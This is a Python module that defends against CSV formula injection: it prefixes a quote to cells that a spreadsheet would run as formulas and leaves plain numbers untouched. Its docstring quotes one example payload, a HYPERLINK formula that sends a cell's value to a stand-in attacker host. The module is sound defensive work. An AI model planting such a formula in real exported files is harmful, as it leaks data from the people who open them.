"""CSV cells that a spreadsheet will not run: every CSV file vested writes for people passes its values here.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return, which some
spreadsheets skip before looking) is read by Excel, LibreOffice and Google Sheets as a formula: a
value such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` in a measurement file would run
when someone opens the quarantine file. As OWASP recommends ("CSV Injection"), such a cell is
written with a leading single quote, which spreadsheets show as text. A plain number (``-5``,
``+2.5``, ``-1.2e3``) is left alone: no spreadsheet reads it as a formula, and negative numbers
are common data. Quoting of commas, quotes and line breaks stays the job of :mod:`csv`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?")


def neutralise(value: object) -> object:
    """``value`` as a CSV cell a spreadsheet shows as text (non-text values are returned unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """A row of cells for ``csv.writer.writerow``, each passed through :func:`neutralise`."""
    return [neutralise(v) for v in values]
